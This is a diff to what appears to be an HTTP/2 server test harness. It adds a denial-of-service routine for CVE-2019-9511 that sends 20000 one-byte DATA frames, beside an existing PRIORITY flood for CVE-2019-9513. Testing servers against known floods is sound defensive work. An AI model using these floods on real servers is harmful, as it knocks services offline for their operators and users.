@@ -272,6 +272,13 @@ def padding(world):
           frame(HEADERS, END_HEADERS, 1, block(fields())))
 
 
+@attack("DATA of one byte a frame (CVE-2019-9511)")
+def small_data(world):
+    flood(world, CALM, frame(DATA, 0, 1, b"x"), 20000,
+          frame(HEADERS, END_HEADERS, 1, block(fields(wire.CAN_ASK)))
+          + frame(DATA, 0, 1, message(b"", size=60000)))
+
+
 @attack("PRIORITY flood (CVE-2019-9513)")
 def priorities(world):
     flood(world, CALM, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"), 20000)
